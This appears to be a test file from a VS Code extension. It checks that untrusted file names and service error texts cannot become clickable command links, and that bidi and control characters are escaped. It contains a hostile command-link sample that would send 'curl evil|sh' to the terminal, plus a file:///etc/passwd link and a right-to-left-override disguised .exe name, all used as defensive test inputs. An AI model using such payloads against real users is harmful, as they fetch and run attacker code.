// Someone else's words in VS Code's own surfaces: a notification turns `[label](command:…)`
// into a link that runs the command when clicked, so a file name or an error text from the
// service must reach a notification as text.
import { strict as assert } from 'node:assert';
import { errorFromResponse } from '../../src/api/httpErrors';
import { messageWithFix } from '../../src/common/core/errorFixes';
import { shownInMessage, shownWithIcons } from '../../src/common/core/untrustedText';

/** VS Code's parseLinkedText pattern (src/vs/base/common/linkedText.ts): what a notification makes a link. */
const NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;

const HOSTILE_LINK = '[Retry](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cr%22%7D)';

describe('common: untrusted text in notifications', () => {
  it('leaves no link a notification would open, and escapes control and bidi characters', () => {
    for (const text of [HOSTILE_LINK, '[docs](https://evil.example)', '[x](FILE:///etc/passwd)', '[a](Command:x)']) {
      const shownText = shownInMessage(text);
      assert.equal(shownText.match(NOTIFICATION_LINK), null, shownText);
      assert.ok(shownText.includes('] ('), 'the words stay readable');
    }
    assert.equal(shownInMessage('invoice\u202Egpj.exe\n[1](notalink)'), 'invoice\\u202egpj.exe\\n[1](notalink)');
    assert.equal(shownInMessage(shownInMessage(HOSTILE_LINK)), shownInMessage(HOSTILE_LINK), 'idempotent');
  });

  it("shows the service's error text as text: no command link, no bidi control", () => {
    const error = errorFromResponse({ status: 500, headers: {}, bodyText: JSON.stringify({ message: `${HOSTILE_LINK} \u202Eoops` }), what: 'Listing files', redact: (t) => t });
    const line = messageWithFix(error);
    assert.equal(line.match(NOTIFICATION_LINK), null, line);
    assert.ok(!line.includes('\u202E'), line);
    assert.match(line, /Listing files failed/);
  });
});

describe('common: untrusted text where VS Code draws icons', () => {
  it('keeps $(icon) syntax as text, escapes control and bidi characters, and bounds the text', () => {
    assert.equal(shownWithIcons('$(check) Apply'), '\\$(check) Apply');
    assert.equal(shownWithIcons('a\u202Eb\n'), 'a\\u202eb\\n');
    assert.equal(shownWithIcons('x'.repeat(100_000)).length, 200);
  });
});
